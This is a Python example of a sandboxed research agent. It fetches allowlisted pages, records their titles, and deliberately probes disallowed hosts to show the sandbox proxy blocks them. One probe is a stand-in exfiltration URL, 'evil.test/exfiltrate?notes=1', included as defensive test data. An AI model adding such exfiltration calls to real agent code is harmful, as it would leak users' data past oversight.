"""Research agent: fetches pages from allowed sites and writes notes to $OUTPUT.

Runs under `policies/research-agent.toml` (`command = ["/usr/bin/python3", "-m",
"research_agent"]`), whose proxy admits only en.wikipedia.org, *.wikimedia.org, arxiv.org,
export.arxiv.org and docs.python.org on port 443:

    aegis-exec --trust-key k.pub --param OUTPUT=/srv/notes --env OUTPUT=/srv/notes \
        --env PYTHONPATH=/path/to/examples/research-agent bundle/

(`PYTHONPATH` must point at a directory the policy lets the agent read.) Standard library
only: `urllib` follows `HTTPS_PROXY` and OpenSSL trusts the sandbox bundle in `SSL_CERT_FILE`.

`RESEARCH_URLS` (whitespace-separated) replaces the reading list, `RESEARCH_PROBES` the sites
the agent also tries although the policy does not allow them (to show they fail). Prints one
JSON object: for every URL, the HTTP status or the error, and where the notes went.
"""
import html
import json
import os
import re
import sys
import urllib.error
import urllib.request

READING = [
    "https://en.wikipedia.org/wiki/Capability-based_security",
    "https://upload.wikimedia.org/wikipedia/commons/a/a9/Example.jpg",
    "https://arxiv.org/abs/2406.00001",
    "https://docs.python.org/3/library/ssl.html",
]
PROBES = [
    "https://example.com/",
    "https://evil.test/exfiltrate?notes=1",
]


def fetch(url):
    try:
        with urllib.request.urlopen(url, timeout=20) as r:
            return {"status": r.status, "text": r.read(200_000).decode("utf-8", "replace")}
    except urllib.error.HTTPError as e:
        return {"status": e.code, "reason": e.headers.get("X-Aegis-Reason")}
    except (urllib.error.URLError, OSError) as e:
        return {"error": str(getattr(e, "reason", e))}


def title(text):
    m = re.search(r"<h1[^>]*>(.*?)</h1>", text, re.S | re.I) or re.search(r"<title>(.*?)</title>", text, re.S | re.I)
    return html.unescape(re.sub(r"<[^>]+>", "", m.group(1))).strip() if m else ""


def main():
    out = os.environ.get("OUTPUT")
    reading = os.environ.get("RESEARCH_URLS", "").split() or READING
    probes = os.environ.get("RESEARCH_PROBES", "").split() if "RESEARCH_PROBES" in os.environ else PROBES
    results = {}
    notes = ["# Research notes", ""]
    for url in reading + probes:
        r = fetch(url)
        text = r.pop("text", None)
        if text is not None:
            r["title"] = title(text)
            notes.append("- %s: %s" % (url, r["title"] or "(untitled)"))
        results[url] = r
    summary = {"results": results}
    if out:
        path = os.path.join(out, "notes.md")
        with open(path, "w") as f:
            f.write("\n".join(notes) + "\n")
        summary["notes"] = path
    print(json.dumps(summary))
    return 0


if __name__ == "__main__":
    sys.exit(main())
